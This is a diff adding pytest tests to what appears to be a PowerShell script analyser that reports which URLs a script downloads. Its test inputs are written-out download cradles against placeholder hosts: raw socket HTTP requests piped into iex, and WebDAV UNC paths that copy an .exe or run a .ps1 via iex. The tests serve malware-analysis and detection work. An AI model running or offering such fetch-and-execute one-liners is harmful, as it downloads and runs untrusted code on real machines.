@@ -260,3 +260,34 @@ def test_functions_nobody_calls_are_left_alone_where_the_script_does_something()
     out = run(LIBRARY + "Start-Process calc")
     assert out.values("effect.run") == ["calc"]
     assert not out.urls
+
+
+@pytest.mark.parametrize(
+    ("text", "url"),
+    [
+        ("$s=(New-Object Net.Sockets.TcpClient('a.example.test',80)).GetStream();$w=New-Object IO.StreamWriter $s;$w.Write(\"GET /1 HTTP/1.1`r`nHost: a.example.test`r`n`r`n\");iex (New-Object IO.StreamReader $s).ReadToEnd()", "http://a.example.test/1"),
+        ("$s=New-Object Net.Sockets.Socket('InterNetwork','Stream','Tcp');$s.Connect('192.0.2.7',8080);$s.Send([Text.Encoding]::ASCII.GetBytes(\"GET /x HTTP/1.0`n`n\"))", "http://192.0.2.7:8080/x"),
+        ("$c=New-Object Net.Sockets.TcpClient 'a.example.test',443;$s=New-Object Net.Security.SslStream($c.GetStream());$w=New-Object IO.StreamWriter $s;$w.WriteLine('GET /1 HTTP/1.1');$w.Flush()", "https://a.example.test/1"),
+        (r"Copy-Item \\a.example.test@SSL\DavWWWRoot\x.exe C:\x.exe", "https://a.example.test/x.exe"),
+        (r"gc \\a.example.test@8080\dav\x.ps1 -raw | iex", "http://a.example.test:8080/dav/x.ps1"),
+    ],
+)  # fmt: skip
+def test_downloads_by_hand(text, url):
+    assert run(text).urls == [url]
+
+
+def test_a_share_of_the_own_network_is_no_download():
+    assert run(r"Copy-Item \\server\tools\x.exe C:\x.exe").urls == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "$env:zq='INERT'; cmd /c 'echo %zq%'",
+        "[Environment]::SetEnvironmentVariable('zq','INERT','Process'); cmd /v:on /c 'echo !zq!'",
+        "Set-Item env:zq INERT; Start-Process cmd '/c echo %zq%'",
+    ],
+)
+def test_programs_see_the_environment_of_the_script(text):
+    started = next(child.data.decode() for child in run(text).children if child.kind == "script.cmd")
+    assert started.replace('"', "").endswith("echo INERT")
